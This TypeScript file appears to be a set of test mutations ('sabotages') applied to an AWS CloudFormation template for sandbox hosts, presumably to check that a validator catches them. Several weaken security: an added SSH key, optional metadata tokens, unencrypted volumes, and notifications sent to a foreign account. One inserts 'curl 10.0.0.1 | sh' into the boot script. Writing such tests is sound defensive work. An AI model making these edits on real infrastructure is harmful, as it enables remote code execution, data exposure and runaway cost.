import { of, type Sabotage } from './sabotage';
import { group, service, template, variant } from './sandbox-hosts';

/** The instances below, their disks and their number. */
export const INSTANCE_SABOTAGES: readonly Sabotage[] = [
  ...of('hosts.instances', {
    'an SSH key opens an instance': (edit) => Object.assign(template(edit), { KeyName: 'operator' }),
    'metadata need no session': (edit) =>
      Object.assign(template(edit).MetadataOptions, { HttpTokens: 'optional' }),
    'metadata reach containers': (edit) =>
      Object.assign(template(edit).MetadataOptions, { HttpPutResponseHopLimit: 2 }),
    'the boot script does more': (edit) =>
      template(edit).UserData['Fn::Base64']['Fn::Join'][1].push('\ncurl 10.0.0.1 | sh'),
    'an instance starts from an image of its own': (edit) =>
      Object.assign(template(edit), { ImageId: 'ami-0123456789abcdef0' }),
    'an instance starts from the image that another parameter names': (edit) =>
      Object.assign(template(edit), { ImageId: '{{resolve:ssm:/bank/image}}' }),
    'instances start from another template as well': (edit) =>
      Object.assign(group(edit).Properties, { MixedInstancesPolicy: { LaunchTemplate: {} } }),
    'instances start from another version of the template': (edit) =>
      Object.assign(group(edit).Properties.LaunchTemplate, { Version: '1' }),
    'a lifecycle hook assumes a role': (edit) =>
      Object.assign(group(edit).Properties, { LifecycleHookSpecificationList: [{ RoleARN: 'arn' }] }),
    'a launch notifies another account': (edit) =>
      Object.assign(group(edit).Properties.NotificationConfigurations[0], {
        TopicARN: 'arn:aws:sns:us-east-1:999988887777:foreign',
      }),
    'CloudFormation replaces the instances': (edit) =>
      Object.assign(group(edit), { UpdatePolicy: { AutoScalingReplacingUpdate: { WillReplace: true } } }),
    'SageMaker’s instance starts from another image': (edit) =>
      Object.assign(variant(edit), { InferenceAmiVersion: 'al2-ami-sagemaker-inference-gpu-2' }),
  }),
  ...of('I6.volumes', {
    'a volume is not encrypted': (edit) =>
      Object.assign(template(edit).BlockDeviceMappings[0].Ebs, { Encrypted: false }),
    'a volume has AWS’s own key': (edit) => {
      delete template(edit).BlockDeviceMappings[0].Ebs.KmsKeyId;
    },
    'a volume is made from a snapshot': (edit) =>
      Object.assign(template(edit).BlockDeviceMappings[0].Ebs, { SnapshotId: 'snap-0a1b2c3d' }),
    'a volume outlives its instance': (edit) =>
      Object.assign(template(edit).BlockDeviceMappings[0].Ebs, { DeleteOnTermination: false }),
    'an instance has a second volume': (edit) =>
      template(edit).BlockDeviceMappings.push({ DeviceName: '/dev/xvdb', Ebs: { VolumeSize: 1 } }),
  }),
  ...of('hosts.capacity', {
    'more instances may run': (edit) => Object.assign(group(edit).Properties, { MaxSize: '64' }),
    'instances run without a copy': (edit) => Object.assign(group(edit).Properties, { MinSize: '1' }),
    'more copies run': (edit) => Object.assign(service(edit), { DesiredCount: 1 }),
    'GPU instances are larger': (edit) => Object.assign(template(edit), { InstanceType: 'p5.48xlarge' }),
    'SageMaker’s instances are larger': (edit) =>
      Object.assign(variant(edit), { InstanceType: 'ml.p5.48xlarge' }),
    'an endpoint may grow further': (edit) =>
      Object.assign(edit.resource('AWS::ApplicationAutoScaling::ScalableTarget').Properties, {
        MaxCapacity: 64,
      }),
    'ECS terminates an instance that answers': (edit) =>
      Object.assign(edit.resource('AWS::ECS::CapacityProvider').Properties.AutoScalingGroupProvider, {
        ManagedTerminationProtection: 'DISABLED',
      }),
  }),
];
